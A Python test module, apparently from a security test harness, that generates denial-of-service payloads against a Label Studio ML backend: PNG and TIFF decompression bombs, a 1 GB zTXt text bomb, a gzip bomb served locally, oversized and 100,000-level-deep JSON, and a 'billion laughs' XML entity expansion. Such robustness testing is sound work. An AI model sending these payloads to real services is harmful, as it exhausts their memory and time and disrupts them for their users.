"""Small requests that ask for much memory or time, and large ones."""

import base64
import gzip
import io
import json
import struct
import zlib

import numpy as np
from PIL import Image

from attack.mutations import deep
from label_studio_requests import CONFIG, click, data_url, interactive, rectangle, task

MIB = 2**20


def bombs(image_server):
    """Yield a name, a path and a body for each bomb."""
    yield "bitmask that claims 14,000 x 14,000", "/predict", _json(_bitmask(14_000))
    yield "brush that claims 30,000 x 30,000", "/predict", _json(_brush(30_000))
    yield "image, 1 bit, 30,000 x 30,000", "/predict", _json(_image(_blank_png(30_000, 1, 0)))
    yield "image, 16 bit, 14,000 x 14,000", "/predict", _json(_image(_blank_png(14_000, 16, 0)))
    yield "image, RGB, 40,000 x 40,000", "/predict", _json(_image(_blank_png(40_000, 8, 2)))
    yield "image whose text unpacks to 1 GB", "/predict", _json(_image(_text_bomb()))
    yield "image, float, 12,000 x 12,000", "/predict", _json(_image(_float_tiff(12_000)))
    yield "image, gzip on the way, 1 GB", "/predict", _json(interactive(click(5, 5), image=_gzipped(image_server)))
    yield "box with 300,000 prompts", "/predict", _json(interactive(*[rectangle(1, 1, 9, 9)] * 300_000))
    yield "JSON, 100,000 levels deep", "/predict", deep(100_000)
    yield "JSON of 60 MB, small numbers", "/predict", _numbers(60 * MIB)
    yield "JSON of 60 MB, in a webhook", "/webhook", _numbers(60 * MIB)
    yield "body of 250 MB", "/predict", b'{"tasks":"' + b"x" * (250 * MIB) + b'"}'
    yield "labeling config of 20 MB", "/validate", _json({"config": CONFIG + "<!--" + "x" * (20 * MIB) + "-->"})
    yield "labeling config with entities", "/validate", _json({"config": _ENTITIES})


_ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + ']><View><Image name="image" value="&i;"/></View>'
)


def _json(message):
    return json.dumps(message).encode()


def _image(file, kind="png"):
    return interactive(click(5, 5), image=data_url(file).replace("image/png", f"image/{kind}"))


def _png(width, height, depth, colour, rows):
    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _blank_png(side, depth, colour):
    channels = 3 if colour == 2 else 1
    row = bytes(1 + (side * depth * channels + 7) // 8)
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return _png(side, side, depth, colour, rows)


def _text_bomb():
    file = io.BytesIO()
    Image.new("L", (8, 8)).save(file, "PNG")
    content = b"Comment\0\0" + zlib.compress(bytes(1000 * MIB), 9)
    chunk = struct.pack(">I", len(content)) + b"zTXt" + content + struct.pack(">I", zlib.crc32(b"zTXt" + content))
    return file.getvalue()[:33] + chunk + file.getvalue()[33:]


def _float_tiff(side):
    file = io.BytesIO()
    Image.fromarray(np.zeros((side, side), np.float32)).save(file, "TIFF", compression="tiff_adobe_deflate")
    return file.getvalue()


def _gzipped(image_server):
    content = gzip.compress(bytes(1000 * MIB), 6)

    def answer(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "image/png")
        handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Content-Length", str(len(content)))
        handler.end_headers()
        handler.wfile.write(content)

    image_server.routes["/gzipped.png"] = answer
    return f"{image_server.url}/gzipped.png"


def _region(value, kind, side):
    frame = {"original_width": side, "original_height": side, "image_rotation": 0}
    return {"id": "a", "type": kind, "from_name": "brush", "to_name": "image", "value": value} | frame


def _bitmask(side):
    url = "data:image/png;base64," + base64.b64encode(_blank_png(side, 1, 0)).decode()
    return interactive(_region({"imageDataURL": url, "brushlabels": ["Crack"]}, "bitmasklabels", side))


def _brush(side):
    claimed = list((4 * side * side % 2**32).to_bytes(4, "big"))
    return interactive(
        _region({"format": "rle", "rle": [*claimed, *[255] * 4000], "brushlabels": ["Crack"]}, "brushlabels", side)
    )


def _numbers(size):
    body = _json({"tasks": [task()], "label_config": CONFIG, "action": "ANNOTATION_CREATED", "x": "@"})
    return body.replace(b'"@"', b"[" + b"7," * (size // 2) + b"7]")
